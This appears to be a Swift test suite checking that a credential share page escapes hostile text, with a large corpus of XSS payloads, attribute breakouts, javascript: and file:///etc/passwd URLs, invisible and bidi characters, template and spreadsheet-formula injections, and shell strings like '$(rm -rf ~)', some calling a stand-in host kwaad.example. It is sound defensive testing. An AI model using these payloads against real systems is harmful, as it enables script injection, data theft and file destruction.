// SPDX-License-Identifier: Apache-2.0

import BackpackKit
import Credentials
import StrictJSON
import Testing

@Suite("Foreign text in a page")
struct SharePageInjectionTests {
    /// Text in every field and around the credential.
    private static func page(_ text: String, _ language: PageLanguage) throws -> (page: HTMLDocument, html: [UInt8]) {
        let content = try PageFixture.content(
            CredentialTexts(all: text), listName: text.isEmpty ? "x" : text, listedAs: text)
        let bundle = try PageFixture.bundle(
            [content], reader: text, challenge: text, domain: text, language: language)
        let html = SharePage.html(bundle)
        return (try HTMLDocument(html), html)
    }

    @Test("adds no element and no attribute", arguments: PageLanguage.allCases)
    func inert(language: PageLanguage) throws {
        // A text without meaning to HTML: what the page looks like when nothing is injected.
        let plain = try Self.page("zomaar", language).page.structure
        #expect(InjectionCorpus.texts.count >= 100)
        let distinct = Set(InjectionCorpus.texts.map { ExactString($0) })
        #expect(distinct.count == InjectionCorpus.texts.count)
        for text in InjectionCorpus.texts {
            let (page, html) = try Self.page(text, language)
            #expect(page.structure == plain, "\(text)")
            guard case .secured(let document) = try Recognizer.recognize(html) else {
                Issue.record("not read back: \(text)")
                continue
            }
            #expect(document.json["proof"]?["challenge"] == .string(text), "\(text)")
        }
    }

    @Test("shows the text itself, with what cannot be seen by number")
    func visible() throws {
        for text in InjectionCorpus.texts {
            let page = try Self.page(text, .english).page
            let shown = InjectionCorpus.visible(text)
            let fields = page.texts.filter { $0.isInside { $0.name == "dd" } && $0.isInside { $0.name == "bdi" } }.map(
                \.text)
            #expect(fields.filter { ExactString($0) == ExactString(shown) }.count >= 15, "\(text)")
            let hidesSomething = ExactString(shown) != ExactString(text)
            let remark = page.texts.contains { $0.text.contains("Be wary of them") }
            #expect(remark == hidesSomething, "\(text)")
            // Nothing that steers or hides is left in any part that is read.
            let bad = page.texts.filter { !$0.isInside { ["pre", "style"].contains($0.name) } }
                .flatMap { $0.text.unicodeScalars }
                .filter {
                    $0 != "\n"
                        && ($0.properties.generalCategory == .control || $0.properties.isDefaultIgnorableCodePoint)
                }
            #expect(bad.isEmpty, "\(text)")
        }
    }

    @Test("links lead to plain web addresses only")
    func links() throws {
        func hasLink(_ address: String) throws -> Bool {
            try Self.page(address, .dutch).page.elements("a").contains { $0["href"]?.hasPrefix("#") == false }
        }
        for address in InjectionCorpus.plainAddresses { #expect(try hasLink(address), "\(address)") }
        for address in InjectionCorpus.otherAddresses { #expect(try !hasLink(address), "\(address)") }
    }
}

enum InjectionCorpus {
    /// What a text looks like when its hidden characters stand as numbers. The corpus has none that may stay.
    static func visible(_ text: String) -> String {
        text.unicodeScalars.map { scalar in
            let isHidden =
                scalar.properties.generalCategory == .control || scalar.properties.isDefaultIgnorableCodePoint
                || scalar.properties.isNoncharacterCodePoint || [0x2028, 0x2029].contains(scalar.value)
                || 0xFFF9...0xFFFB ~= scalar.value
            return isHidden ? "\\u{\(String(scalar.value, radix: 16))}" : String(scalar)
        }.joined()
    }

    static let plainAddresses = [
        "https://school.example", "https://school.example/a?b=c&d=%20#e", "https://school.example:8443/",
        "https://[2001:db8::1]/x", "https://xn--hxajbheg2az3al.example/",
    ]

    static let otherAddresses = [
        "http://school.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>",
        "https://", "https:///pad", "https://:443/", "https://school.example@kwaad.example/",
        "https://a:b@kwaad.example",
        "https://school.example/\" onclick=\"x", "https://school.example/'x", "https://school.example/ x",
        "https://sch\u{F6}ol.example/", "https://school.example/\u{202E}", "https://school.example\\@kwaad.example/",
        "HTTPS://school.example", "//school.example", "ftp://school.example", "file:///etc/passwd",
        " https://school.example",
        "https://school.example/<b>", "https://school.example/\n", "https://%73chool.example/", "vbscript:x", "blob:x",
        "https://school.example/" + String(repeating: "a", count: 2_000),
    ]

    static let texts: [String] = tags + attributes + breakouts + references + addresses + hidden + others

    private static let tags = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//kwaad.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script\u{9}type=module>import('//x')</script>", "<img src=x onerror=alert(1)>",
        "<img src=http://kwaad.example/p.gif>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
        "<math><mtext></mtext><style><img src onerror=alert(1)></style></math>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=//kwaad.example>", "<embed src=//kwaad.example>",
        "<link rel=stylesheet href=//kwaad.example/x.css>", "<meta http-equiv=refresh content=0;url=//kwaad.example>",
        "<base href=//kwaad.example/>", "<form action=//kwaad.example><input autofocus onfocus=alert(1)></form>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "<button popovertarget=x>x</button>", "<style>@import '//kwaad.example';</style>",
        "<style>*{display:none}</style>",
        "<template><script>alert(1)</script></template>", "<portal src=//kwaad.example>",
        "<xss id=x tabindex=1>x</xss>",
        "<input type=image src=//kwaad.example>", "<plaintext>", "<xmp>",
        "<noscript><p title=\"</noscript><img src=x>\">",
        "<!--", "<!-- -->", "--><b>x</b>", "<![CDATA[x]]>", "<?php x ?>", "<!doctype html>", "</html>", "<%= x %>",
    ]

    private static let attributes = [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"position:fixed;inset:0",
        "\"/><img src=x>", "\"\u{C}onclick=alert(1) ", "\u{9}\"onclick=alert(1)", "nl\" onload=\"x",
        "\\\" onclick=\\\"x",
    ]

    private static let breakouts = [
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</pre><script>alert(1)</script>",
        "</bdi></dd></dl>", "</p></div></article></main></body></html>", "</TITLE >", "</dd\u{A}>",
        #"<pre id="backpack-presentation" hidden>{}</pre>"#, #"&lt;pre id="backpack-presentation" hidden>"#,
        #"<pre id="backpack-presentation" hidden>"#, "</code><code>", "]]>", "*/}*{background:url(//kwaad.example)}/*",
    ]

    private static let references = [
        "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;", "&", "&&", "&;", "&#", "&#x",
        "&#0;", "&#x110000;", "&notanentity;", "&lt", "&quot; onclick=x", "&NewLine;", "&colon;", "%3Cscript%3E",
        "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
    ]

    private static let addresses = [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\u{9}script:alert(1)", "\u{1}javascript:alert(1)",
        "javascript://%0aalert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "//kwaad.example",
        "http://kwaad.example", "https://goed.example@kwaad.example/", "https://goed.example/\"onclick=alert(1)",
        "https://goed.example/<script>", "feed:javascript:alert(1)", "file:///etc/passwd",
    ]

    private static let hidden = [
        "\u{0}", "a\u{0}b", "\u{1B}[2J", "\u{1B}]8;;http://kwaad.example\u{7}", "\u{7F}", "\u{85}", "\u{9B}31m",
        "\u{202E}gpj.exe", "\u{202A}x\u{202C}", "\u{2066}x\u{2069}", "\u{2067}x", "\u{2068}x", "\u{200E}x", "\u{200F}x",
        "\u{61C}x", "x\u{200B}y", "x\u{200C}y", "x\u{200D}y", "x\u{2060}y", "\u{FEFF}x", "x\u{AD}y", "x\u{34F}y",
        "x\u{2028}y", "x\u{2029}y", "x\u{FE0F}", "\u{E0001}\u{E0041}", "x\u{180E}y", "\u{3164}x", "\u{FFA0}x",
        "x\u{115F}y", "\u{FFF9}x\u{FFFB}", "x\u{E0100}", "\u{FFFE}", "\u{1FFFF}", "a\u{D}b", "\u{202E}<script>\u{202C}",
    ]

    private static let others = [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%7*7%>", "=cmd|' /C calc'!A0", "'; rm -rf ~; echo '", "$(rm -rf ~)", "`id`",
        "\u{338}x", "\u{301}", "\u{20DD}x", "x\u{338}", "\"", "'", "`", "<", ">", "/>", "//", "/*", "*/", "\\", ";",
        "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}", "\u{FF1C}script\u{FF1E}",
        "\u{2039}script\u{203A}",
        "[x](javascript:alert(1))", "![x](//kwaad.example/p.gif)", "<javascript:alert(1)>", "\u{FFFD}", "\u{E000}",
    ]
}
